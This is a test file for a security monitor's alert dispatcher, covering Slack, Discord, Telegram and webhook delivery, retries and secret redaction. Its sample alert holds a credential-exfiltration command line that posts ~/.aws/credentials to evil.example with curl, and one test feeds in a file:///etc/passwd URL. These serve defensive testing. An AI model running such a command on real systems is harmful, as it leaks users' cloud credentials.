import { createServer, type Socket } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { mkdtempSync, writeFileSync, chmodSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Dispatcher, applyAlertSettings, channelsFrom, discordChannel, slackChannel, telegramChannel, webhookChannel, type Channel } from "../../src/alerts/index.js";
import { createLogger } from "../../src/log/index.js";
import { defaultConfig } from "../../src/config/index.js";
import { readDotEnv, withDotEnv } from "../../src/config/env.js";
import type { Alert, Severity } from "../../src/events/index.js";
import { ANSWERS, Receiver, type Answer } from "../helpers/receivers.js";
import { waitFor } from "../helpers/system.js";

const receivers: Receiver[] = [];
const dispatchers: Dispatcher[] = [];
afterEach(async () => {
  for (const d of dispatchers.splice(0)) await d.close(0);
  for (const r of receivers.splice(0)) await r.stop();
});

async function receiver(normal: Answer = ANSWERS.webhook) {
  const r = await new Receiver(normal).start();
  receivers.push(r);
  return r;
}

let n = 0;
function alert(severity: Severity = "critical", exe = "/usr/bin/curl"): Alert {
  n++;
  return {
    event_id: n.toString(16).padStart(16, "0"), ts: 1_795_000_000_000 + n, severity, category: "DATA_EXFIL", rule: "exfil.upload", engine: "behavior", summary: "curl sends ~/.aws/credentials to evil.example", action: "alert", node_id: "host1", policy_version: "v1",
    event: { id: "x", ts: 0, source: "auditd", kind: "exec", node_id: "host1", fidelity: "kernel", process: { pid: 42, ppid: 1, uid: 1001, auid: null, euid: 1001, user: "agent", exe, comm: "curl", argv: ["curl", "--data-binary", "@creds", `https://evil.example/${n}`], cwd: "/home/agent" } },
  };
}

/** What the aggregator hands over when it pushes an alert to every one of these channels. */
function push(d: Dispatcher, a: Alert, channels: readonly Channel[] = current): void {
  d.accept({ alert: a, entry: { key: "k", alert: a, count: 1, first_ts: a.ts, last_ts: a.ts, last_event_id: a.event_id }, fresh: true, push: [...new Set(channels.map((c) => c.name))].map((channel) => ({ channel, suppressed: 0 })) });
}
let current: Channel[] = [];

function dispatcher(channels: Channel[], o: Partial<ConstructorParameters<typeof Dispatcher>[0]> = {}) {
  const logs: string[] = [];
  const d = new Dispatcher({ channels, queueSize: 128, maxRetries: 3, timeoutMs: 2000, backoffMs: 50, log: createLogger("debug", (l) => logs.push(l)), ...o });
  dispatchers.push(d);
  current = channels;
  return { d, logs };
}

describe("alert channels (loopback receivers answering as the real services)", () => {
  it("Slack: a Block Kit message with severity, category, rule, command, user, host and event_id", async () => {
    const r = await receiver(ANSWERS.slack);
    const { d } = dispatcher([slackChannel(r.url("/services/T0/B0/SECRET"))]);
    const a = alert();
    push(d, a);
    await waitFor("slack message", () => r.got[0]);
    const body = r.got[0]!.body as { text: string; blocks: { type: string; fields?: { text: string }[]; text?: { text: string } }[] };
    expect(body.text).toBe("[CRITICAL] DATA_EXFIL exfil.upload on host1");
    const fields = body.blocks.flatMap((b) => b.fields ?? []).map((f) => f.text);
    expect(fields).toEqual(["*Severity*\ncritical", "*Category*\nDATA_EXFIL", "*Rule*\nexfil.upload", "*User*\nagent", "*Host*\nhost1", `*Event*\n${a.event_id}`]);
    expect(JSON.stringify(body.blocks)).toContain("curl --data-binary @creds");
    await waitFor("sent count", () => (d.status().sent === 1 ? true : undefined));
  });

  it("Discord: one embed, and Discord's 204 counts as sent", async () => {
    const r = await receiver(ANSWERS.discord);
    const { d } = dispatcher([discordChannel(r.url("/api/webhooks/1/tok"))]);
    push(d, alert());
    await waitFor("discord sent", () => (d.status().sent === 1 ? true : undefined));
    const body = r.got[0]!.body as { embeds: { title: string; color: number; fields: { name: string }[] }[] };
    expect(body.embeds).toHaveLength(1);
    expect(body.embeds[0]!.color).toBe(0xdc2626);
    expect(body.embeds[0]!.fields.map((f) => f.name)).toEqual(["Severity", "Category", "Rule", "Command", "Event", "Host"]);
  });

  it("Telegram: sendMessage with chat id and HTML; the bot token stays out of logs", async () => {
    const r = await receiver(ANSWERS.telegram);
    r.script = [ANSWERS.error500];
    const { d, logs } = dispatcher([telegramChannel(r.url(""), "123456:SECRET-TOKEN", "42")]);
    push(d, alert());
    await waitFor("telegram sent", () => (d.status().sent === 1 ? true : undefined));
    expect(r.got[1]!.path).toBe("/bot123456:SECRET-TOKEN/sendMessage");
    expect(r.got[1]!.body).toMatchObject({ chat_id: "42", parse_mode: "HTML" });
    expect(logs.join("")).toMatch(/HTTP 500/);
    expect(logs.join("")).not.toContain("SECRET-TOKEN");
  });

  it("the generic webhook's documented payload", async () => {
    const r = await receiver();
    const { d } = dispatcher([webhookChannel(r.url())]);
    const a = alert();
    push(d, a);
    await waitFor("webhook", () => r.got[0]);
    expect(r.got[0]!.body).toEqual({
      type: "alert", event_id: a.event_id, ts: new Date(a.ts).toISOString(), severity: "critical", category: "DATA_EXFIL", rule: "exfil.upload", summary: a.summary, action: "alert",
      process: { pid: 42, ppid: 1, uid: 1001, user: "agent", exe: "/usr/bin/curl", argv: a.event.process!.argv, cwd: "/home/agent" }, node_id: "host1", policy_version: "v1",
    });
  });

  for (const [name, make, answer] of [
    ["Slack", (u: string) => slackChannel(u), ANSWERS.slack429],
    ["Discord", (u: string) => discordChannel(u), ANSWERS.discord429],
    ["Telegram", (u: string) => telegramChannel(u, "1:t", "9"), ANSWERS.telegram429],
  ] as const) {
    it(`${name}'s 429 is honoured: the retry comes no sooner than it asked`, async () => {
      const r = await receiver(name === "Slack" ? ANSWERS.slack : name === "Discord" ? ANSWERS.discord : ANSWERS.telegram);
      r.script = [answer];
      const { d } = dispatcher([make(r.url(""))]);
      push(d, alert());
      await waitFor("the retry", () => (d.status().sent === 1 ? true : undefined));
      expect(r.got).toHaveLength(2);
      expect(r.got[1]!.at - r.got[0]!.at).toBeGreaterThanOrEqual(950);
      expect(d.status()).toMatchObject({ retried: 1, sent: 1, failed: 0 });
    });
  }

  it("Slack primary answering 500: the backup receives the alert", async () => {
    const primary = await receiver(ANSWERS.error500);
    const backup = await receiver(ANSWERS.slack);
    const ch = slackChannel(primary.url("/services/P/P/P"), backup.url("/services/B/B/B"));
    const { d } = dispatcher([ch]);
    push(d, alert());
    await waitFor("backup delivery", () => backup.got[0]);
    expect(primary.got).toHaveLength(1);
    expect(ch.failovers).toBe(1);
    await waitFor("sent", () => (d.status().sent === 1 ? true : undefined));
  });

  it("receiver down: accept never blocks, the queue stays at 128, drops are counted, delivery resumes when it is back", async () => {
    const r = await receiver();
    const port = r.port;
    await r.stop();
    const { d, logs } = dispatcher([webhookChannel(`http://127.0.0.1:${port}/hook?token=SECRET`)], { maxRetries: 50, backoffMs: 20 });
    for (let i = 0; i < 300; i++) push(d, alert("critical", `/usr/bin/tool${i}`));
    const st = d.status();
    expect(st.queued as number).toBeLessThanOrEqual(128);
    expect(st.dropped_queue_full as number).toBeGreaterThanOrEqual(300 - 128 - 1);
    await waitFor("a failed attempt logged", () => (logs.some((l) => l.includes("will retry")) ? true : undefined));
    expect(logs.join("")).not.toContain("SECRET");
    await r.start(port);
    await waitFor("delivery resumed", () => ((d.status().sent as number) >= 100 ? true : undefined), 20_000);
    const dropped = d.status().dropped_queue_full as number;
    expect((d.status().sent as number) + dropped).toBeLessThanOrEqual(300);
  });

  it("a slow channel does not hold up another one", async () => {
    const slow = await receiver({ ...ANSWERS.webhook, delayMs: 2000 });
    const fast = await receiver();
    const { d } = dispatcher([webhookChannel(slow.url()), webhookChannel(fast.url())]);
    for (let i = 0; i < 5; i++) push(d, alert("critical", `/bin/x${i}`));
    await waitFor("the fast channel to get all five", () => (fast.got.length === 5 ? true : undefined), 1500);
    expect(slow.got.length).toBeLessThanOrEqual(1);
  });

  it("a webhook that accepts the connection and never answers: each try times out, is retried, then counted failed; the other channel gets everything", async () => {
    // A raw socket that reads and never writes: no status line, no close.
    const sockets: Socket[] = [];
    const hang = createServer((sock) => {
      sockets.push(sock);
      sock.on("data", () => {});
    });
    await new Promise<void>((r) => hang.listen(0, "127.0.0.1", () => r()));
    const port = (hang.address() as { port: number }).port;
    try {
      const fast = await receiver();
      const { d, logs } = dispatcher([webhookChannel(`http://127.0.0.1:${port}/hook`), webhookChannel(fast.url())], { timeoutMs: 300, maxRetries: 1 });
      for (let i = 0; i < 3; i++) push(d, alert("critical", `/bin/h${i}`));
      await waitFor("the fast channel to get all three", () => (fast.got.length === 3 ? true : undefined), 2000);
      await waitFor("the hanging channel to give up on all three", () => (Number(d.status().failed) >= 3 ? true : undefined), 10_000);
      expect(d.status()).toMatchObject({ sent: 3 });
      expect(logs.some((l) => l.includes("alert delivery failed") && /timeout|aborted/i.test(l))).toBe(true);
      expect(sockets.length).toBeGreaterThanOrEqual(3);
    } finally {
      for (const s of sockets) s.destroy();
      await new Promise((r) => hang.close(r));
    }
  });

  it("sends only to the channels the aggregator named, with the count it held back", async () => {
    const a = await receiver();
    const b = await receiver(ANSWERS.discord);
    const { d } = dispatcher([webhookChannel(a.url()), discordChannel(b.url("/api/webhooks/1/t"))]);
    const x = alert("warning");
    d.accept({ alert: x, entry: { key: "k", alert: x, count: 1, first_ts: x.ts, last_ts: x.ts, last_event_id: x.event_id }, fresh: true, push: [{ channel: "webhook", suppressed: 7 }] });
    await waitFor("the webhook", () => a.got[0]);
    expect((a.got[0]!.body as { suppressed?: number }).suppressed).toBe(7);
    await new Promise((r) => setTimeout(r, 200));
    expect(b.got).toHaveLength(0);
    expect(d.status()).toMatchObject({ accepted: 1 });
  });
});

describe("alert settings", () => {
  it("takes flags over the environment over config.toml, and builds the channels", () => {
    const c = defaultConfig();
    c.alerts.webhook_url = "http://127.0.0.1:1/from-file";
    applyAlertSettings(c, { alertEnabled: true, alertMinSeverity: "critical" }, { CLAWAV_ALERT_WEBHOOK_URL: "http://127.0.0.1:2/from-env", CLAWAV_SLACK_WEBHOOK_URL: "http://127.0.0.1:3/s" });
    expect(c.alerts.webhook_url).toBe("http://127.0.0.1:2/from-env");
    applyAlertSettings(c, { alertWebhookUrl: "http://127.0.0.1:4/from-flag" }, {});
    expect(c.alerts.webhook_url).toBe("http://127.0.0.1:4/from-flag");
    expect(c.alerts).toMatchObject({ enabled: true, min_severity: "critical" });
    expect(channelsFrom(c).map((x) => x.name)).toEqual(["slack", "webhook"]);
    expect(() => applyAlertSettings(c, { alertRateLimit: "-1" }, {})).toThrow(/--alert-rate-limit/);
    c.alerts.webhook_url = "file:///etc/passwd";
    expect(() => channelsFrom(c)).toThrow(/alerts.webhook_url: only http and https/);
  });

  it("reads .env (quotes, export, comments), never over the real environment, and names bad lines", () => {
    const dir = mkdtempSync(join(tmpdir(), "clawav-env-"));
    const f = join(dir, ".env");
    writeFileSync(f, `# secrets\nexport CLAWAV_ALERT_WEBHOOK_URL="http://127.0.0.1:9/x"\nCLAWAV_TELEGRAM_CHAT_ID=42 # chat\nCLAWAV_SLACK_WEBHOOK_URL='http://127.0.0.1:9/s'\n`, { mode: 0o600 });
    chmodSync(f, 0o600);
    const r = withDotEnv({ CLAWAV_TELEGRAM_CHAT_ID: "7" }, f);
    expect(r.env.CLAWAV_ALERT_WEBHOOK_URL).toBe("http://127.0.0.1:9/x");
    expect(r.env.CLAWAV_SLACK_WEBHOOK_URL).toBe("http://127.0.0.1:9/s");
    expect(r.env.CLAWAV_TELEGRAM_CHAT_ID).toBe("7");
    expect(r.warnings).toEqual([]);
    chmodSync(f, 0o644);
    expect(readDotEnv(f).warnings[0]).toMatch(/readable by other users/);
    writeFileSync(f, "GOOD=1\nthis is not a pair\n");
    expect(() => readDotEnv(f)).toThrow(`${f}:2: not a KEY=VALUE line`);
  });
});
